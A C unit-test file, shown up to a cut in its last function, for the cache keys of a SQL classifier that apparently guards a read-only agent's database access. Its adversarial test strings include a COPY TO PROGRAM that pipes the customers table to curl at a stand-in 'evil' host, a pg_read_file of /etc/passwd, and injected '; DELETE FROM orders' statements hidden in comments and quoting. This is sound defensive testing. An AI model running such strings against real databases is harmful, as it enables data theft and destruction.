// SPDX-License-Identifier: Apache-2.0
/*
 * Unit tests for pg_classify.c's verdict cache keys: the scanner key ('S',
 * PostgreSQL's own lexer with constant values left out) must be shared by
 * texts that differ only in constants (and whitespace or comments), and by
 * no two texts the grammar could see differently. A shared key is a shared
 * verdict, so a wrong one is a bypass.
 *
 *   - test_key_tokens: the key's token codes are those pg_query_scan()
 *     reports for the same text (the hand-declared scanner entry points
 *     still match the library);
 *   - test_key_same / test_key_differs: pairs of texts that must, and must
 *     not, share a key;
 *   - test_key_none: texts that get no scanner key (lexer errors,
 *     UESCAPE);
 *   - test_fast_*: the 'F' key (the text with its plainest constants
 *     blanked, by a scan of our own): texts that share one must share
 *     their 'S' key (templates filled with many constants, and random
 *     texts from an alphabet of the characters it takes, next to each
 *     other in every way), and the texts it must give up on;
 *   - test_cache_equivalence: every text of a list of adversarial texts
 *     (the S-cases of /work/shared/cases/sql.txt, and variants), judged
 *     through one shared cache in several orders, gets exactly the result
 *     it gets uncached.
 */
#include "pg_classify.h"
#include "unit.h"

#include <pg_query.h>
#include <pg_query/pg_query.pb-c.h>
#include <stdbool.h>
#include <stdint.h>

size_t pgc_scan_key(const char *sql, char *out, size_t cap);
size_t pgc_fast_key(const char *sql, size_t len, char *out, size_t cap);
uint64_t pgc_scans(void);

static char *ro_stmts[] = { "select" };
static char *ro_tables[] = { "public.customers", "public.orders" };
static char *ro_funcs[] = { "harmless" };
static struct policy_rule ro_rule = {
	.target = "db", .role = "agent_ro",
	.allow = { .present = true, .statements = { ro_stmts, 1 }, .tables = { ro_tables, 2 },
		   .functions = { ro_funcs, 1 } },
};
static const struct policy_rule *ro[] = { &ro_rule };

static bool mask_pred(void *arg, const char *schema, const char *table, const char *column)
{
	(void)arg;
	if (strcmp(schema, "public") != 0 || strcmp(table, "customers") != 0)
		return false;
	return !column || strcmp(column, "email") == 0 || strcmp(column, "cc") == 0;
}

static size_t key_of(const char *sql, char *out, size_t cap)
{
	return pgc_scan_key(sql, out, cap);
}

static bool same_key(const char *a, const char *b)
{
	char ka[4096], kb[4096];
	size_t na = key_of(a, ka, sizeof(ka)), nb = key_of(b, kb, sizeof(kb));

	CHECK(na > 0 && nb > 0);
	return na && na == nb && memcmp(ka, kb, na) == 0;
}

/* ---- the key's tokens are the library's tokens ---- */

/* The codes of a key (the encoding of skey_token()). */
static int key_codes(const char *k, size_t n, int *codes, int max)
{
	size_t i = 0;
	int nc = 0;

	while (i + 2 <= n && nc < max) {
		uint16_t code, len;

		memcpy(&code, k + i, 2);
		i += 2;
		codes[nc++] = code;
		if (code == PG_QUERY__TOKEN__PARAM) {
			i += sizeof(int);
		} else if (code == PG_QUERY__TOKEN__IDENT || code == PG_QUERY__TOKEN__UIDENT ||
			   code == PG_QUERY__TOKEN__Op || code >= PG_QUERY__TOKEN__ABORT_P) {
			if (i + 2 > n)
				return -1;
			memcpy(&len, k + i, 2);
			i += 2 + len;
		}
	}
	return i == n ? nc : -1;
}

static void test_key_tokens(void)
{
	static const char *texts[] = {
		"SELECT abalance FROM pgbench_accounts WHERE aid = 12345;",
		"SELECT /* c */ a, \"Foo\", 1.5, 'x', $$y$$, E'a\\'b', U&'\\0061', x'1f', b'01', $1, "
		"1::int -- c\n <> != <= >= => := .. @> ;",
		"SELECT $q$; DELETE FROM orders; $q$",
		"WITH x AS (SELECT 1) SELECT * FROM x ORDER BY 1 NULLS FIRST",
		"SELECT id FROM U&\"cust\\006Fmers\"",
	};

	for (size_t t = 0; t < sizeof(texts) / sizeof(texts[0]); t++) {
		PgQueryScanResult sr = pg_query_scan(texts[t]);
		PgQuery__ScanResult *res;
		char k[4096];
		int codes[256], nc, nl = 0;
		size_t n = key_of(texts[t], k, sizeof(k));
		bool same = true;

		CHECK(!sr.error && n > 0);
		res = pg_query__scan_result__unpack(NULL, sr.pbuf.len, (const uint8_t *)sr.pbuf.data);
		CHECK(res != NULL);
		nc = key_codes(k, n, codes, 256);
		CHECK(nc > 0);
		for (size_t i = 0; res && i < res->n_tokens; i++) {
			int tok = res->tokens[i]->token;

			if (tok == PG_QUERY__TOKEN__SQL_COMMENT || tok == PG_QUERY__TOKEN__C_COMMENT)
				continue;
			same &= nl < nc && codes[nl] == tok;
			nl++;
		}
		CHECK(same && nl == nc);
		if (res)
			pg_query__scan_result__free_unpacked(res, NULL);
		pg_query_free_scan_result(sr);
	}
}

/* ---- pairs ---- */

struct pair {
	const char *a, *b;
};

/* Texts the grammar sees alike but for constant values. */
static const struct pair same_pairs[] = {
	{ "SELECT abalance FROM pgbench_accounts WHERE aid = 1;",
	  "SELECT abalance FROM pgbench_accounts WHERE aid = 98765;" },
	{ "SELECT * FROM t WHERE a = 'x'", "SELECT * FROM t WHERE a = 'a much longer string'" },
	{ "SELECT * FROM t WHERE a = 'x'", "SELECT * FROM t WHERE a = $$x$$" },
	{ "SELECT * FROM t WHERE a = 'x'", "SELECT * FROM t WHERE a = E'\\x41'" },
	/* with scs on, the whole tail is one string (notes D09) */
	{ "SELECT 'x'", "SELECT 'a\\'' ; DELETE FROM orders; --'" },
	{ "SELECT 'x'", "SELECT $q$; DELETE FROM orders; $q$" },
	{ "SELECT 1.5", "SELECT 2e10" },
	{ "SELECT x'1f'", "SELECT x'ffff'" },
	/* comments and whitespace never reach the grammar */
	{ "SELECT 1", "SELECT /* ; DELETE FROM orders */ 1" },
	{ "SELECT 1", "SELECT /* nested /* ; DELETE FROM orders */ still */ 1 -- ; DROP TABLE x" },
	{ "SELECT a FROM t", "SELECT\n\ta\nFROM\tt" },
	/* the lexer folds case, resolves quotes */
	{ "SELECT a FROM t", "SELECT A FROM T" },
	{ "SELECT a FROM t", "select \"a\" from \"t\"" },
};

/* Texts the grammar sees differently: their keys must differ. */
static const struct pair differ_pairs[] = {
	/* identifiers vs strings */
	{ "SELECT * FROM t WHERE a = b", "SELECT * FROM t WHERE a = 'b'" },
	{ "SELECT \"x\"", "SELECT 'x'" },
	{ "SELECT * FROM \"Customers\"", "SELECT * FROM customers" },
	{ "SELECT * FROM customers", "SELECT * FROM secrets" },
	{ "SELECT * FROM public.customers", "SELECT * FROM private.customers" },
	{ "SELECT \"select\"", "SELECT select" },
	/* a comment ends, or does not, where the lexer says */
	{ "SELECT 1 /* x */; DELETE FROM orders", "SELECT 1 /* x; DELETE FROM orders */" },
	{ "SELECT 1 --\n; DELETE FROM orders", "SELECT 1 -- ; DELETE FROM orders" },
	{ "SELECT /* /* */ 1 */ 2", "SELECT /* */ 1 */ 2" },
	/* dollar quotes: a tag ends only at the same tag */
	{ "SELECT $a$ $b$; DELETE FROM orders; $b$ $a$", "SELECT $a$ x $a$; DELETE FROM orders" },
	/* E'' vs '' (the backslash escapes, or not) */
	{ "SELECT E'\\''; DELETE FROM orders; --'", "SELECT 'x'" },
	{ "SELECT E'\\\\'; DELETE FROM orders", "SELECT 'x'" },
	/* U&'' is its own kind of constant; U&"" an identifier with its body */
	{ "SELECT U&'\\0041'", "SELECT 'A'" },
	{ "SELECT id FROM U&\"cust\\006Fmers\"", "SELECT id FROM U&\"\\0073ecrets\"" },
	{ "SELECT id FROM U&\"cust\\006Fmers\"", "SELECT id FROM customers" },
	/* positions vs expressions */
	{ "SELECT id, cc FROM customers ORDER BY 1", "SELECT id, cc FROM customers ORDER BY 'x'" },
	{ "SELECT id, cc FROM customers ORDER BY 1", "SELECT id, cc FROM customers ORDER BY cc" },
	/* casts */
	{ "SELECT 'orders'::regclass", "SELECT 'orders'::text" },
	{ "SELECT regclass 'orders'", "SELECT text 'orders'" },
	{ "SELECT 'orders'::regclass", "SELECT 'orders'" },
	/* functions and operators */
	{ "SELECT lower('x')", "SELECT upper('x')" },
	{ "SELECT lower('x')", "SELECT pg_read_file('x')" },
	{ "SELECT harmless(1)", "SELECT pg_catalog.harmless(1)" },
	{ "SELECT a @> b FROM t", "SELECT a <@ b FROM t" },
	{ "SELECT a < b FROM t", "SELECT a <= b FROM t" },
	{ "SELECT a OPERATOR(pg_catalog.+) b FROM t", "SELECT a OPERATOR(evil.+) b FROM t" },
	/* kinds of constants and parameters */
	{ "SELECT 1", "SELECT '1'" },
	{ "SELECT 1", "SELECT 1.0" },
	{ "SELECT 1", "SELECT 99999999999" },
	{ "SELECT $1", "SELECT $2" },
	{ "SELECT $1", "SELECT 1" },
	{ "SELECT 1; SELECT 2", "SELECT 1" },
	{ "SELECT 1", "SELECT TRUE" },
};

static void test_key_same(void)
{
	for (size_t i = 0; i < sizeof(same_pairs) / sizeof(same_pairs[0]); i++) {
		bool same = same_key(same_pairs[i].a, same_pairs[i].b);

		if (!same)
			fprintf(stderr, "  keys differ: '%s' / '%s'\n", same_pairs[i].a, same_pairs[i].b);
		CHECK(same);
	}
}

static void test_key_differs(void)
{
	for (size_t i = 0; i < sizeof(differ_pairs) / sizeof(differ_pairs[0]); i++) {
		bool same = same_key(differ_pairs[i].a, differ_pairs[i].b);

		if (same)
			fprintf(stderr, "  keys equal: '%s' / '%s'\n", differ_pairs[i].a, differ_pairs[i].b);
		CHECK(!same);
	}
}

static void test_key_none(void)
{
	static const char *none[] = {
		"SELECT 'unterminated",
		"SELECT $a$ unterminated $b$",
		"SELECT /* unterminated",
		"SELECT \"unterminated",
		"SELECT 1abc",                          /* trailing junk */
		"SELECT \"\"",                          /* zero-length identifier */
		"SELECT * FROM U&\"!0073ecrets\" UESCAPE '!'",
		"SELECT U&'!0041' UESCAPE '!'",
	};
	char k[4096];

	for (size_t i = 0; i < sizeof(none) / sizeof(none[0]); i++) {
		size_t n = key_of(none[i], k, sizeof(k));

		if (n)
			fprintf(stderr, "  has a key: '%s'\n", none[i]);
		CHECK(n == 0);
	}
	/* and the lexer is usable after an error (no state left behind) */
	CHECK(key_of("SELECT 1", k, sizeof(k)) > 0);
}

/* ---- the 'F' key ---- */

static size_t fkey_of(const char *sql, char *out, size_t cap)
{
	return pgc_fast_key(sql, strlen(sql), out, cap);
}

/* Fills a template: %i an integer, %s a string's body (quotes are the
 * template's), each from its list, the k-th placeholder taking choice
 * (pick + k) of the list. */
static const char *const fill_i[] = { "1", "0", "007", "999999999", "42", "5" };
static const char *const fill_s[] = {
	"", "x", "O''Brien", "; DELETE FROM orders; --", "a\\", "\\''x", "$$", "/* x */", "\"q\"",
	"line\nbreak", "''", "e''x", "\xc3\xa9t\xc3\xa9", "1.5e10", "U&''\\0041'' UESCAPE ''!''", "\\''",
};

static bool fill(const char *tpl, unsigned pick, char *out, size_t cap)
{
	size_t n = 0;
	unsigned k = 0;

	for (const char *p = tpl; *p; p++) {
		const char *add = NULL;
		char one[2] = { *p, 0 };

		if (p[0] == '%' && (p[1] == 'i' || p[1] == 's')) {
			add = p[1] == 'i' ? fill_i[(pick + k) % (sizeof(fill_i) / sizeof(fill_i[0]))]
					  : fill_s[(pick * 7 + k) % (sizeof(fill_s) / sizeof(fill_s[0]))];
			k++;
			p++;
		} else {
			add = one;
		}
		if (n + strlen(add) + 1 > cap)
			return false;
		memcpy(out + n, add, strlen(add));
		n += strlen(add);
	}
	out[n] = 0;
	return true;
}

/* Every filling of a template has the same nonzero 'F' key and the same
 * 'S' key. */
static void test_fast_templates(void)
{
	static const char *tpl[] = {
		"SELECT abalance FROM pgbench_accounts WHERE aid = %i;",
		"SELECT * FROM orders WHERE id = %i AND status = '%s' LIMIT %i",
		"select id,email from customers where name='%s' or id in (%i,%i,%i)",
		"INSERT INTO orders (id, note) VALUES (%i, '%s'), (%i, '%s')",
		"UPDATE orders SET total = total + %i WHERE id = -%i",
		"SELECT '%s'\n'%s' AS joined",
		"SELECT '%s' '%s'",
		"SELECT a[%i:%i] FROM t WHERE b <> %i AND c >= %i AND d::text = '%s'",
		"SELECT id, cc FROM customers ORDER BY %i",
		"SELECT '%s'::regclass",
		"SELECT x FROM t WHERE y = %i-%i+%i*%i",
		"SELECT(%i)FROM(t)WHERE(a=%i)",
		"BEGIN; SELECT %i; COMMIT",
	};
	char a[512], b[512], fa[1024], fb[1024], sa[4096], sb[4096];

	for (size_t t = 0; t < sizeof(tpl) / sizeof(tpl[0]); t++) {
		CHECK(fill(tpl[t], 0, a, sizeof(a)));
		size_t nfa = fkey_of(a, fa, sizeof(fa)), nsa = key_of(a, sa, sizeof(sa));

		if (!nfa)
			fprintf(stderr, "  no F key: '%s'\n", a);
		CHECK(nfa > 0 && nsa > 0);
		for (unsigned pick = 1; pick < 40; pick++) {
			CHECK(fill(tpl[t], pick, b, sizeof(b)));
			size_t nfb = fkey_of(b, fb, sizeof(fb)), nsb = key_of(b, sb, sizeof(sb));
			bool ok = nfb == nfa && memcmp(fa, fb, nfa) == 0 && nsb == nsa && memcmp(sa, sb, nsa) == 0;

			if (!ok)
				fprintf(stderr, "  '%s' / '%s': F %zu/%zu S %zu/%zu\n", a, b, nfa, nfb, nsa, nsb);
			CHECK(ok);
		}
	}
}

/* Texts the scan must give up on (their lexing is PostgreSQL's business),
 * and texts it takes. */
static void test_fast_none(void)
{
	static const char *none[] = {
		"SELECT 1.5", "SELECT .5", "SELECT 5.", "SELECT t.1", "SELECT 1e5", "SELECT 0x1F",
		"SELECT 1_000", "SELECT 1234567890", "SELECT 1abc", "SELECT E'x'", "SELECT e'x'",
		"SELECT N'x'", "SELECT x'1f'", "SELECT b'01'", "SELECT U&'x'", "SELECT 'unterminated",
		"SELECT 'a''", "SELECT 1 -- c", "SELECT 1--c", "SELECT /* c */ 1", "SELECT $1",
		"SELECT $$x$$", "SELECT \"a\" FROM t WHERE b = 1", "SELECT a/2", "SELECT 'a'||'b'",
		"SELECT 1 \xc3\xa9", "SELECT a$1 FROM t WHERE b = 1", "SELECT 1 ! 2", "SELECT 1 % 2",
		"SELECT 1\\2", "SELECT a@>'x'", "SELECT 1 \f", "SELECT 1 \v",
	};
	static const char *some[] = {
		"SELECT 1", "SELECT '' FROM t", "SELECT 'x''y'", "SELECT -1", "SELECT a - -1",
		"SELECT - 1", "SELECT t1.c2 FROM t1 WHERE c3 = 'x' ; ", "SELECT x::int[] FROM t WHERE y = 1",
	};
	char k[1024];

	for (size_t i = 0; i < sizeof(none) / sizeof(none[0]); i++) {
		size_t n = fkey_of(none[i], k, sizeof(k));

		if (n)
			fprintf(stderr, "  has an F key: '%s'\n", none[i]);
		CHECK(n == 0);
	}
	for (size_t i = 0; i < sizeof(some) / sizeof(some[0]); i++) {
		size_t n = fkey_of(some[i], k, sizeof(k));

		if (!n)
			fprintf(stderr, "  no F key: '%s'\n", some[i]);
		CHECK(n > 0);
	}
	/* a constant is a marker; nothing else changes */
	CHECK(fkey_of("a = 12 'b'", k, sizeof(k)) == 9 && memcmp(k, "a = \0i \0s", 9) == 0);
}

/* a with each of its constants, as this test reads them (a word of
 * digits alone; a quoted string not after a word character), replaced by
 * another of a different length: quotes, comment starts, dollars and
 * newlines inside the strings. */
static void rewrite_consts(const char *a, char *out, size_t cap, unsigned pick)
{
	static const char *const ints[] = { "1", "123456789", "0", "42", "00000" };
	static const char *const strs[] = {
		"", "x''y", "--", "/*", "$$", "\n", "\xc3\xa9", "a\\", "''", "; DELETE FROM t; --",
		"*/ 1", "\\''", "\n'\n'",
	};
	size_t n = strlen(a), m = 0, i = 0;
	unsigned k = pick;

#define OUT(p, l) do { size_t l_ = (l); if (m + l_ + 1 > cap) { out[m] = 0; return; } \
			memcpy(out + m, (p), l_); m += l_; } while (0)
	while (i < n) {
		char ch = a[i];
		size_t j = i;
		bool word = (ch >= 'a' && ch <= 'z') || (ch >= 'A' && ch <= 'Z') || (ch >= '0' && ch <= '9') ||
			    ch == '_';

		if (word) {
			bool digits = true;

			while (j < n && ((a[j] >= 'a' && a[j] <= 'z') || (a[j] >= 'A' && a[j] <= 'Z') ||
					 (a[j] >= '0' && a[j] <= '9') || a[j] == '_')) {
				digits &= a[j] >= '0' && a[j] <= '9';
				j++;
			}
			if (digits) {
				const char *r = ints[k++ % (sizeof(ints) / sizeof(ints[0]))];

				OUT(r, strlen(r));
			} else {
				OUT(a + i, j - i);
			}
			i = j;
			continue;
		}
		if (ch == '\'') {
			for (j = i + 1; j < n; j++) {
				if (a[j] == '\'' && a[j + 1] == '\'')
					j++;
				else if (a[j] == '\'')
					break;
			}
			if (j >= n) {           /* unterminated: as it is */
				OUT(a + i, n - i);
				break;
			}
			const char *r = strs[k++ % (sizeof(strs) / sizeof(strs[0]))];

			/* a lone quote inside would end the string: "\n'\n'" is
			 * two strings joined by a newline, so it keeps the shape
			 * only where the lexer joins them; the F keys tell */
			OUT("'", 1);
			OUT(r, strlen(r));
			OUT("'", 1);
			i = j + 1;
			continue;
		}
		OUT(&ch, 1);
		i++;
	}
	out[m] = 0;
#undef OUT
}

/* PostgreSQL's lexer's ICONST tokens in sql (-1: a lexer error). */
static int iconsts(const char *sql)
{
	PgQueryScanResult sr = pg_query_scan(sql);
	PgQuery__ScanResult *res;
	int n = 0;

	if (sr.error) {
		pg_query_free_scan_result(sr);
		return -1;
	}
	res = pg_query__scan_result__unpack(NULL, sr.pbuf.len, (const uint8_t *)sr.pbuf.data);
	for (size_t i = 0; res && i < res->n_tokens; i++)
		n += res->tokens[i]->token == PG_QUERY__TOKEN__ICONST;
	if (res)
		pg_query__scan_result__free_unpacked(res, NULL);
	pg_query_free_scan_result(sr);
	return res ? n : -1;
}

/* Random texts over the characters the scan takes (and a few it does
 * not), next to each other in every way: any two that share an 'F' key
 * share their 'S' key (or both have none). Each text is paired with a
 * copy whose constants the test rewrites itself, by its own reading of
 * the text: digit runs and quoted bodies, wherever they fall, once at the
 * same lengths and once at others. And the lexer reads the text's
 * integer constants where the scan does. */
static void test_fast_random(void)
{
	static const char *const parts[] = {
		"SELECT", "select", "a", "b1", "_x", "FROM", "t", "WHERE", "e", "E", "N", "x", "U",
		"1", "22", "0", "999999999", "1234567890", " ", "  ", "\n", "\t", ",", ";", "(", ")",
		".", "=", "<", ">", "*", "+", "-", ":", "[", "]", "'", "'q'", "''", "'a''b'", "'--'",
		"'\n'", "--", "/", "$", "\"", "&", "!", "'\\'", "'\\", "\\", "1.5", ".",
	};
	enum { NP = sizeof(parts) / sizeof(parts[0]) };
	uint64_t rng = 0x9e3779b97f4a7c15ull;
	char a[256], b[256], c[1024], fa[1024], fb[1024], fc[2048], sa[4096], sb[4096], sc[4096];
	int keyed = 0, pairs = 0, longer = 0;

	for (int it = 0; it < 40000; it++) {
		size_t n = 0;
		int np = 1 + (int)(rng % 14);

		for (int k = 0; k < np; k++) {
			rng ^= rng << 13, rng ^= rng >> 7, rng ^= rng << 17;
			const char *p = parts[rng % NP];

			if (n + strlen(p) + 1 >= sizeof(a))
				break;
			memcpy(a + n, p, strlen(p));
			n += strlen(p);
		}
		a[n] = 0;
		size_t nfa = fkey_of(a, fa, sizeof(fa));

		if (!nfa)
			continue;
		keyed++;
		/* b: a's digits all 7, and every byte inside quotes that is not
		 * a quote made 'z' (as a's own scan reads them: a quote opens,
		 * a doubled quote inside stays) */
		bool in = false;

		for (size_t i = 0; i < n; i++) {
			char ch = a[i];

			if (ch == '\'' && in && a[i + 1] == '\'') {
				b[i] = b[i + 1] = '\'';
				i++;
			} else if (ch == '\'') {
				in = !in;
				b[i] = ch;
			} else {
				b[i] = in ? 'z' : ch >= '0' && ch <= '9' ? '7' : ch;
			}
		}
		b[n] = 0;
		size_t nfb = fkey_of(b, fb, sizeof(fb));

		if (nfb != nfa || memcmp(fa, fb, nfa) != 0)
			continue;
		pairs++;
		size_t nsa = key_of(a, sa, sizeof(sa)), nsb = key_of(b, sb, sizeof(sb));
		bool ok = nsa == nsb && memcmp(sa, sb, nsa) == 0;

		if (!ok)
			fprintf(stderr, "  same F key, S keys differ: '%s' / '%s'\n", a, b);
		CHECK(ok);
		/* the same with constants of other lengths and contents */
		rewrite_consts(a, c, sizeof(c), (unsigned)it);
		size_t nfc = fkey_of(c, fc, sizeof(fc));

		if (nfc == nfa && memcmp(fa, fc, nfa) == 0) {
			size_t nsc = key_of(c, sc, sizeof(sc));

			longer++;
			ok = nsa == nsc && memcmp(sa, sc, nsa) == 0;
			if (!ok)
				fprintf(stderr, "  same F key, S keys differ: '%s' / '%s'\n", a, c);
			CHECK(ok);
		}
		/* the lexer agrees with the scan: it lexes without error, and
		 * its integer constants are exactly the scan's 'i' markers */
		int want = 0;

		for (size_t i = 0; i + 1 < nfa; i++)
			want += fa[i] == '\0' && fa[i + 1] == 'i';
		ok = iconsts(a) == want;
		if (!ok)
			fprintf(stderr, "  '%s': %d integer constants to the lexer, %d to the scan\n", a,
				iconsts(a), want);
		CHECK(ok);
	}
	/* the alphabet did reach the scan */
	CHECK(keyed > 1000 && pairs > 1000 && longer > 1000);
}

/* pgbench's statement: after the first, its new constants are 'F' key
 * hits and the lexer does not run; a text the scan gives up on still
 * finds its 'S' key. */
static void test_fast_hits(void)
{
	struct pgc_ctx c = { .search_path = "public", .column_masked = mask_pred, .policy_gen = 7 };
	struct pgc_result r;
	uint64_t s0;
	char q[128];

	pgc_cache_flush();
	CHECK(pgc_judge(&c, "SELECT id FROM orders WHERE id = 1;", strlen("SELECT id FROM orders WHERE id = 1;"), ro, 1, &r) == 0);
	CHECK(r.verdict == PGC_ALLOW && !r.cached);
	s0 = pgc_scans();
	for (int i = 0; i < 50; i++) {
		int n = snprintf(q, sizeof(q), "SELECT id FROM orders WHERE id = %d;", 2 + i * 7919);

		CHECK(pgc_judge(&c, q, (size_t)n, ro, 1, &r) == 0);
		CHECK(r.verdict == PGC_ALLOW && r.cached);
	}
	CHECK(pgc_scans() == s0);
	/* 1.5 has no F key: the lexer runs, and its S key is the entry of
	 * the first 1.5 text */
	CHECK(pgc_judge(&c, "SELECT id FROM orders WHERE id = 1.5;", strlen("SELECT id FROM orders WHERE id = 1.5;"), ro, 1, &r) == 0);
	CHECK(r.verdict == PGC_ALLOW && !r.cached);
	CHECK(pgc_judge(&c, "SELECT id FROM orders WHERE id = 2.5;", strlen("SELECT id FROM orders WHERE id = 2.5;"), ro, 1, &r) == 0);
	CHECK(r.verdict == PGC_ALLOW && r.cached && pgc_scans() == s0 + 2);
	/* an S hit is stored under the F key too: the S entry of
	 * "... = 'a'" is made by a text the scan refuses (E''), and then a
	 * plain '' text finds it by its S key once, by its F key after */
	pgc_cache_flush();
	CHECK(pgc_judge(&c, "SELECT id FROM orders WHERE id = $q$a$q$", strlen("SELECT id FROM orders WHERE id = $q$a$q$"), ro, 1, &r) == 0 && !r.cached);
	s0 = pgc_scans();
	CHECK(pgc_judge(&c, "SELECT id FROM orders WHERE id = 'b'", strlen("SELECT id FROM orders WHERE id = 'b'"), ro, 1, &r) == 0 && r.cached);
	CHECK(pgc_scans() == s0 + 1);
	CHECK(pgc_judge(&c, "SELECT id FROM orders WHERE id = 'c'", strlen("SELECT id FROM orders WHERE id = 'c'"), ro, 1, &r) == 0 && r.cached);
	CHECK(pgc_scans() == s0 + 1);
	pgc_cache_flush();
}

/* ---- a shared cache never changes a result ---- */

static const char *adversarial[] = {
	"SELECT id, email, cc FROM customers WHERE id = 1",
	"SELECT id, email, cc FROM customers WHERE id = 2",
	"SELECT * FROM customers; DELETE FROM orders",
	"WITH r AS (SELECT 1), u AS (UPDATE orders SET total = 0 RETURNING 1) SELECT * FROM r",
	"SELECT * FROM orders FOR NO KEY UPDATE SKIP LOCKED",
	"SELECT * INTO TEMP stolen FROM customers",
	"COPY (SELECT * FROM customers) TO STDOUT WITH (FORMAT binary)",
	"COPY customers TO PROGRAM 'curl -d @- http://evil'",
	"COPY customers TO '/tmp/x.csv'",
	"DO $$ BEGIN EXECUTE 'DEL' || 'ETE FROM orders'; END $$",
	"SELECT pg_read_file('/etc/passwd')",
	"SELECT lower('/etc/passwd')",
	"SELECT * FROM pg_ls_dir('.')",
	"SELECT set_config('standard_conforming_strings', 'off', false)",
	"SELECT set_config('application_name', 'x', false)",
	"SELECT setval('orders_id_seq', 1)",
	"SELECT query_to_xml('SELECT cc FROM secrets', true, false, '')",
	"SELECT * FROM orders WHERE id = harmless_looking()",
	"SELECT * FROM orders WHERE id = harmless(1)",
	"SELECT * FROM orders WHERE id = harmless(2)",
	"SET standard_conforming_strings = off",
	"SET application_name = 'x'",
	"SET application_name = 'y'",
	"SELECT $q$; DELETE FROM orders; $q$",
	"SELECT 'q'; DELETE FROM orders; SELECT 'q'",
	"SELECT * FROM \"public\".\"customers\"",
	"SELECT * FROM \"Customers\"",
	"SELECT * FROM U&\"!0073ecrets\" UESCAPE '!'",
	"SELECT * FROM U&\"!0063ustomers\" UESCAPE '!'",
	"SELECT * FROM U&\"!0063ustomers\" UESCAPE '#'",
	"SELECT id FROM U&\"cust\\006Fmers\"",
	"SELECT id FROM U&\"\\0073ecrets\"",
	"SELECT * FROM customers WHERE id IN (SELECT id FROM secrets)",
	"VALUES ((SELECT cc FROM secrets LIMIT 1))",
	"VALUES ((SELECT cc FROM customers LIMIT 1))",
	"SELECT cc AS x FROM customers",
	"SELECT cc::int FROM customers",
	"SELECT row_to_json(c) FROM customers c",
	"SELECT id, cc FROM customers ORDER BY 1",
	"SELECT id, cc FROM customers ORDER BY 2",
	"SELECT id, cc FROM customers ORDER BY 'x'",
	"SELECT id, cc FROM customers GROUP BY 1, 2",
	"SELECT id, cc FROM customers GROUP BY 1, 1",
	"SELECT DISTINCT ON (1) id, cc FROM customers",
	"SELECT DISTINCT ON (2) id, cc FROM customers",
	"SELECT 'orders'::regclass",
	"SELECT 'secrets'::regclass",
	"SELECT regclass 'secrets'",
	"SELECT CAST('secrets' AS regclass)",
	"SELECT 1 /* ; DELETE FROM orders */",
	"SELECT 1 /* x */; DELETE FROM orders",
	"SELECT 1 -- ; DELETE FROM orders",
	"SELECT 1 --\n; DELETE FROM orders",
	"SELECT /* nested /* c */ DELETE */ 1",
	"SELECT E'\\''; DELETE FROM orders; --'",
	"SELECT E'x'; SELECT 1",
	"SELECT 'a\\'' ; DELETE FROM orders; --'",
	"SELECT U&'\\0041'",
	"SELECT 1::float(10)",
	"SELECT 1::float(60)",
	"SELECT 1::float(0)",
	"BEGIN READ ONLY",
	"BEGIN READ WRITE",
	"SELECT * FROM orders WHERE total > 10 LIMIT 5",
	"SELECT * FROM orders WHERE total > 10.5 LIMIT 50",
	"INSERT INTO orders VALUES (1, 2, 3)",
	"EXPLAIN SELECT * FROM orders WHERE id = 1",
	"EXPLAIN DELETE FROM orders WHERE id = 1",
	"SELECT * FROM orders WHERE id = $1",
	"SELECT * FROM secrets WHERE id = $1",
	"",
	";",
};

static bool same_result(const struct pgc_result *a, const struct pgc_result *b)
{
	bool same = a->verdict == b->verdict && a->cls == b->cls && a->rule == b->rule &&
		    strcmp(a->tag, b->tag) == 0 && strcmp(a->reason, b->reason) == 0 &&
		    a->nstmts == b->nstmts && a->ntables == b->ntables &&
		    a->denied_stmt == b->denied_stmt && a->copy_in == b->copy_in &&
		    a->copy_out == b->copy_out && a->begins_tx == b->begins_tx &&
		    a->ends_tx == b->ends_tx;

	for (int i = 0; same && i < a->ntables; i++)
		same = strcmp(a->tables[i], b->tables[i]) == 0;
	for (int i = 0; same && i < a->nstmts; i++)
		same = a->stmts[i].verdict == b->stmts[i].verdict &&
		       a->stmts[i].judged == b->stmts[i].judged &&
		       a->stmts[i].tables == b->stmts[i].tables &&
		       strcmp(a->stmts[i].tag, b->stmts[i].tag) == 0;
	return same;
}

static void test_cache_equivalence(void)
{
	enum { N = sizeof(adversarial) / sizeof(adversarial[0]) };
	static struct pgc_result want[N], got;
	struct pgc_ctx c = { .search_path = "public", .column_masked = mask_pred };
	int hits = 0;

	for (int i = 0; i < N; i++)
		CHECK(pgc_judge(&c, adversarial[i], strlen(adversarial[i]), ro, 1, &want[i]) == 0);
	/* forwards, backwards, and with a stride: each text meets the keys
	 * of texts judged before it in different orders */
	for (int pass = 0; pass < 3; pass++) {
		pgc_cache_flush();
		c.policy_gen = 40 + (uint64_t)pass;
		for (int k = 0; k < 2 * N; k++) {
			int i = pass == 0 ? k % N : pass == 1 ? N - 1 - k % N : (k * 7) % N;

			CHECK(pgc_judge(&c, adversarial[i], strlen(adversarial[i]), ro, 1, &got) == 0);
			hits += got.cached;
			/* the documented exception: a text that shares the key of
			 * one that parsed, and fails a grammar check on a
			 * constant's value, gets that text's verdict (the server
			 * refuses it as a syntax error) */
			if (got.cached && want[i].verdict == PGC_DENY &&
			    strncmp(want[i].reason, "parse error", 11) == 0 &&
			    strstr(adversarial[i], "float("))
				continue;
			if (!same_result(&got, &want[i])) {
				fprintf(stderr, "  '%s': cached %d verdict %d '%s', uncached %d '%s'\n",
					adversarial[i], got.cached, got.verdict, got.reason,
					want[i].verdict, want[i].reason);
				CHECK(false);
			}
		}
	}
	CHECK(hits > 0);        /* the cache was in play */
	pgc_cache_flush();
}

/* The pgbench statement: a new constant is a scanner-key hit; a text that
 * differs in a name is not. */
static void test_scan_hits(void)
{
	struct pgc_ctx c = { .search_path = "public", .column_masked = mask_pred, .policy_gen = 5 };
	struct pgc_result r;
	char q[128];

	pgc_cache_flush();
	for (int i = 0; i < 50; i++) {
		int n = snprintf(q, sizeof(q), "SELECT id FROM orders WHERE id = %d;", i * 7919);

		CHECK(pgc_judge(&c, q, (size_t)n, ro, 1, &r) == 0);
		CHECK(r.verdict == PGC_ALLOW && r.cached == (i > 0));
	}
	CHECK(pgc_judge(&c, "SELECT id FROM secrets WHERE id = 1;", 36, ro, 1, &r) == 0);
	CHECK(r.verdict == PGC_DENY && !r.cached);
	/* a syntax error is kept under its exact text only: it may come
	 * from a constant's value (float(0)), so float(9) is judged anew */
	CHECK(pgc_judge(&c, "SELECT 1::float(0)", 18, ro, 1, &r) == 0);
	CHECK(r.verdict == PGC_DENY && !r.cached);
